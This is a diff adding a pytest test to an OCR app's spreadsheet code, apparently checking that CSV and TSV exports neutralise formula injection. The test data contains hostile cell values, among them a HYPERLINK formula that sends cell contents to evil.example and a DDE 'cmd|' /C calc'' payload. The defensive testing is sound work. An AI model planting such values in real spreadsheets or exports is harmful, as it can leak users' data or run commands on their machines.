@@ -16,7 +16,7 @@ from openpyxl.cell.cell import Cell
 from desktop.cli import main
 from desktop.core.ocr.models import OcrDocument, OcrLine, OcrResult, OcrTable
 from desktop.core.ocr.rendered_pages import render_lines
-from desktop.core.ocr.spreadsheet import cell_value, workbook_bytes
+from desktop.core.ocr.spreadsheet import cell_value, tsv_text, workbook_bytes
 
 
 @pytest.fixture(scope="module")
@@ -70,6 +70,35 @@ def test_cells_keep_their_text_formulas_stay_text_and_empty_cells_stay_empty() -
     assert sheet["C2"].value is None
     assert sheet["B3"].value == 1 and sheet["C3"].value == 12.5
     assert sheet["C3"].number_format == "0.00"  # shown as 12.50, as read
+
+
+HOSTILE = (
+    ("Item", "Link", "Qty"),
+    ('=HYPERLINK("http://evil.example/?"&A1,"Open")', "@SUM(A1:A9)", "-3"),
+    ("+5", "- bullet", "12.50"),
+    ("\tcmd", "plain", "-2+3+cmd|' /C calc'!A0"),
+)
+
+
+def test_csv_and_tsv_cells_never_run_as_formulas_and_numbers_stay_numbers() -> None:
+    """A hostile screenshot's table, read back with the csv module: every cell that starts
+    with =, +, -, @ or a tab and is not a number has a leading apostrophe (a spreadsheet
+    takes it as text and hides it); "-3" and "12.50" are written as read."""
+    table = OcrTable(HOSTILE, (0, 0, 100, 100), ruled=True)
+    expected = [
+        ["Item", "Link", "Qty"],
+        ['\'=HYPERLINK("http://evil.example/?"&A1,"Open")', "'@SUM(A1:A9)", "-3"],
+        ["'+5", "'- bullet", "12.50"],
+        ["'\tcmd", "plain", "'-2+3+cmd|' /C calc'!A0"],
+    ]
+    assert list(csv.reader(io.StringIO(table.csv()))) == expected
+    assert list(csv.reader(io.StringIO(tsv_text(HOSTILE)), dialect="excel-tab")) == expected
+    # The .xlsx keeps the text as read, marked as text; JSON keeps it untouched.
+    page = OcrResult([], 100, 100, 0.0, tables=[table])
+    sheet = load_workbook(io.BytesIO(workbook_bytes([OcrDocument("a.png", [page])])))["Table 1"]
+    assert sheet["A2"].value == HOSTILE[1][0] and sheet["A2"].data_type == "s"
+    assert sheet["C2"].value == -3
+    assert [cell["text"] for cell in table.cells()[1]] == list(HOSTILE[1])
 
 
 def test_a_page_without_a_table_gives_one_sheet_of_its_lines() -> None:
